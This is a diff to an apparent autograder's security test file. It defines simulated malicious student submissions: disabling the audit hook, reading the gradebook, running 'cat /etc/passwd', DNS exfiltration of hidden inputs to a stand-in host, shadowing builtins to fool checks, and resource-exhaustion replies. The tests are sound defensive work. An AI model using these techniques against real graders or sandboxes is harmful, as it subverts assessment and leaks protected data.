@@ -404,7 +404,7 @@ ATTACKS = {
     "settrace": (a_settrace, (0, 0, 0.5), {"suspicious_code": "settrace"}),
     "builtins": (a_builtins, (0, 0, 0.5), {"suspicious_code": "builtins.abs"}),
     "math": (a_math, (0, 0, 0.5), {"suspicious_code": "math.sqrt"}),
-    "always_equal": (a_always_equal, (0, 0, 0), {"suspicious_code": "AlwaysEqual"}),
+    "always_equal": (a_always_equal, (0, 0, 0), {"suspicious_code": "returned its own list subclass"}),
     "frames": (a_frames, (0, 0, 0.5), {"suspicious_code": "frames"}),
     "hook_spy": (a_hook_spy, (1.5, 1, 0.5), {"suspicious_code": "events.pre_run_cell"}),
     "network": (a_network, (1.5, 1, 0.5), {"sandbox_violation": "network: 127.0.0.1"}),
@@ -437,3 +437,168 @@ def write_attack_class(release: Path, folder: Path, target: Target) -> dict[str,
     return students
 
 
+
+
+# ---------------------------------------------------------------- issue 23: the judge, budgets, records
+
+HIDDEN_GROUP = "0.2_0.9_0.4_0.4_1.0"  # a hidden input, as the leaking attacks below spell it
+NO_HOOK = '''import sys as _s
+_k = getattr(_s, "mod" + "ules")["_coursekit" + "_kernel"]
+_k.arm.__globals__["_state"]["armed"] = False  # the in-kernel audit hook records nothing from now on
+'''
+RAW = '''import sys as _s
+_kernel_side = getattr(_s, "mod" + "ules")["_coursekit" + "_kernel"].call.__globals__
+class Raw(list):  # sent as it is: the kernel side's encoding (and its caps) skipped
+    pass
+_encoded = _kernel_side["_encoded"]
+_kernel_side["_encoded"] = lambda value: value if isinstance(value, Raw) else _encoded(value)
+'''
+
+
+def _shadowing(name: str, definition: str):
+    """Hard-coded answers (honest score (0, 0, 0.5)) with a builtin the checks use defined at top level."""
+    def build(nb, t: Target):
+        return _replace_function(nb, HARD_CODED + f"\n\n{definition}\n")
+    build.__name__ = f"a_shadow_{name}"
+    return build
+
+
+def a_shadow_globals(nb, t: Target):
+    """Right but for groups of five, and `globals` that turns the course option on: the diagnostic of
+    the wrong group would quote its hidden input."""
+    solve(nb)
+    _extra(nb, _code(nb), '''_right = group_advantages
+def group_advantages(rewards, eps=1e-8):
+    return [0.0] * 5 if len(rewards) == 5 else _right(rewards, eps)
+
+def globals():
+    return {"_SHOW_HIDDEN_INPUTS": True}
+''')
+    return nb
+
+
+def _wrapped(side_effect: str, prelude: str = ""):
+    """The reference solution, with `side_effect` (which sees `rewards`) run in every call of group_advantages."""
+    def build(nb, t: Target):
+        solve(nb)
+        body = _indent(_indent(side_effect.format(course=str(t.course), port=t.port)))
+        _extra(nb, _code(nb), f"{prelude}_right = group_advantages\ndef group_advantages(rewards, eps=1e-8):\n"
+                              f"    try:\n{body}\n    except Exception:\n        pass\n"
+                              "    return _right(rewards, eps)\n")
+        return nb
+    return build
+
+
+def _reply(value: str, prelude: str = RAW):
+    """The reference answers on the visible inputs; on hidden ones, a reply built to cost the grader."""
+    def build(nb, t: Target):
+        solve(nb)
+        _extra(nb, _code(nb), f'''{prelude}_right = group_advantages
+def group_advantages(rewards, eps=1e-8):
+    if list(rewards) in ([1., 2., 3.], [0., 1.], [2., 2.], [1.]):
+        return _right(rewards, eps)
+    return {value}
+''')
+        return nb
+    return build
+
+
+def a_print_flood(nb, t: Target):
+    """Undoes the kernel's chunking of printed text and prints 40 MB in one message."""
+    solve(nb)
+    _extra(nb, _code(nb), '''import ipykernel.iostream as _io
+_f = _io.OutStream._flush_buffers
+_io.OutStream._flush_buffers = _f.__closure__[0].cell_contents if _f.__closure__ else _f
+print("x" * 40_000_000)
+''')
+    return nb
+
+
+def _dead_after(misbehaviour: str, at_first_check: bool = True):
+    """Correct code that misbehaves after the last test cell, then ends its kernel: at the first call of
+    a hidden check (`at_first_check`), else at once in that cell."""
+    def build(nb, t: Target):
+        solve(nb)
+        _extra(nb, _code(nb), '''import os as _os
+_right = group_advantages
+def group_advantages(rewards, eps=1e-8):
+    if DONE:
+        _os._exit(0)
+    return _right(rewards, eps)
+DONE = False
+''')
+        last = misbehaviour.format(course=str(t.course), port=t.port)
+        end = "DONE = True" if at_first_check else "_os._exit(0)"
+        _extra(nb, _cells(nb, "test_aggregation")[0], f"try:\n{_indent(last)}\nexcept Exception:\n    pass\n{end}")
+        return nb
+    return build
+
+
+def _indent(code: str) -> str:
+    return "\n".join("    " + line for line in code.split("\n"))
+
+
+def _hook_off(misbehaviour: str):
+    def build(nb, t: Target):
+        solve(nb)
+        _extra(nb, _code(nb), NO_HOOK + "try:\n" + _indent(misbehaviour.format(course=str(t.course), port=t.port))
+               + "\nexcept Exception:\n    pass\n")
+        return nb
+    return build
+
+
+READ_GRADEBOOK = 'open("../../gradebook.db", "rb").read()'
+WRITE_COURSE = 'open("{course}/reports/pwned.txt", "w").write("x")'
+RUN_CAT = 'import subprocess\nsubprocess.run(["cat", "/etc/passwd"])'
+CONNECT = 'import socket\nsocket.create_connection(("127.0.0.1", {port}), timeout=1)'
+SYMLINK = 'import os\nos.symlink("{course}/gradebook.db", "gb.db")'
+SQLITE = 'import sqlite3\nsqlite3.connect("{course}/gradebook.db").execute("select 1")'
+PATCH_ABS = 'import builtins\nbuiltins.abs = lambda x: 0.0'
+SPELLED = '"_".join(map(repr, rewards))'
+
+ATTACKS.update({
+    # the judge resolves no name through the student (class 2; more, and hostile values, in
+    # test_grading_hidden_tests.py, which judges without a kernel)
+    "shadow_zip": (_shadowing("zip", "def zip(*args):\n    return []"), (0, 0, 0.5), {}),
+    "shadow_zip_pairs": (_shadowing("zip_pairs", "def zip(*args):\n    return [(0.0, 0.0)]"), (0, 0, 0.5), {}),
+    "shadow_abs": (_shadowing("abs", "def abs(x):\n    return 0.0"), (0, 0, 0.5), {}),
+    "shadow_max": (_shadowing("max", "def max(*args, **kwargs):\n    return float('inf')"), (0, 0, 0.5), {}),
+    "shadow_globals": (a_shadow_globals, (0, 1, 0.5), {}),
+    "budget_colliding_keys": (_reply("Raw([{'$': 'dict', 'v': [[i * (2 ** 61 - 1) + 7, 0.0] for i in range(8000)]}])"),
+                              (0, 0, 0.5), {"over_budget": "colliding"}),
+    "budget_items": (_reply("Raw(range(1_000_000))"), (0, 0, 0.5), {"over_budget": "reply items"}),
+    "budget_depth": (_reply("Raw([__import__('functools').reduce(lambda x, _: [x], range(100), 0.0)])"), (0, 0, 0.5),
+                     {"over_budget": "reply depth"}),
+    "budget_bytes": (_reply("Raw(['x' * 20_000_000])"), (0, 0, 0.5), {"over_budget": "kernel message bytes"}),
+    "budget_judge_cpu": (_reply("Raw([0] * 240_000)"), (0, 0, 0.5), {"over_budget": "grader CPU"}),
+    "budget_judge_memory": (_reply("Raw([0.5] * 200_000)"), (0, 0, 0.5), {"over_budget": "grader memory"}),
+    "budget_print_flood": (a_print_flood, (1.5, 1, 0.5), {"over_budget": "kernel message bytes"}),
+    # flags from what the trusted side observes: the in-kernel hook switched off first (class 4)
+    "hook_off_read": (_hook_off(READ_GRADEBOOK), (1.5, 1, 0.5), {"sandbox_violation": "file: "}),
+    "hook_off_write": (_hook_off(WRITE_COURSE), (1.5, 1, 0.5), {"sandbox_violation": "pwned.txt"}),
+    "hook_off_subprocess": (_hook_off(RUN_CAT), (1.5, 1, 0.5), {"sandbox_violation": "subprocess: cat"}),
+    "hook_off_network": (_hook_off(CONNECT), (1.5, 1, 0.5), {"sandbox_violation": "network: 127.0.0.1"}),
+    "hook_off_symlink": (_hook_off(SYMLINK), (1.5, 1, 0.5), {"sandbox_violation": "symlink: "}),
+    "hook_off_sqlite": (_hook_off(SQLITE), (1.5, 1, 0.5), {"sandbox_violation": "gradebook.db"}),
+    # a kernel that dies keeps its records (class 6)
+    "dead_read": (_dead_after(READ_GRADEBOOK), (1.5, 1, 0.5), {"sandbox_violation": "file: "}),
+    "dead_patch": (_dead_after(PATCH_ABS), (1.5, 1, 0.5), {"suspicious_code": "builtins.abs"}),
+    "dead_network": (_dead_after(CONNECT), (1.5, 1, 0.5), {"sandbox_violation": "network: 127.0.0.1"}),
+    "dead_subprocess": (_dead_after(RUN_CAT), (1.5, 1, 0.5), {"sandbox_violation": "subprocess: cat"}),
+    "dead_symlink": (_dead_after(SYMLINK), (1.5, 1, 0.5), {"sandbox_violation": "symlink: "}),
+    "dead_at_once": (_dead_after(WRITE_COURSE, at_first_check=False), (1.5, 1, 0.5),
+                     {"sandbox_violation": "pwned.txt"}),
+    # hidden inputs never reach a record (class 7)
+    "leak_open": (_wrapped(f'open("/leak/" + {SPELLED})'), (1.5, 1, 0.5),
+                  {"sandbox_violation": "during hidden checks: file"}),
+    "leak_subprocess": (_wrapped(f'import subprocess\nsubprocess.run(["/leak/" + {SPELLED}])'), (1.5, 1, 0.5),
+                        {"sandbox_violation": "during hidden checks: subprocess"}),
+    "leak_connect": (_wrapped(f'import socket\nsocket.socket(socket.AF_UNIX).connect("/leak/" + {SPELLED})'),
+                     (1.5, 1, 0.5), {"sandbox_violation": "during hidden checks: network"}),
+    "leak_symlink": (_wrapped(f'import os\nos.symlink("/leak/" + {SPELLED}, "leak")'), (1.5, 1, 0.5),
+                     {"sandbox_violation": "during hidden checks: symlink"}),
+    "leak_dns": (_wrapped(f'import socket\nsocket.getaddrinfo({SPELLED}.replace("_", "-") + ".leak.example", 80)'),
+                 (1.5, 1, 0.5), {}),
+    "leak_class_name": (_reply(f"type('C' + {SPELLED}, (list,), {{}})(_right(rewards, eps))", prelude=""),
+                        (0, 0, 0.5), {"suspicious_code": "returned its own list subclass"}),
+})
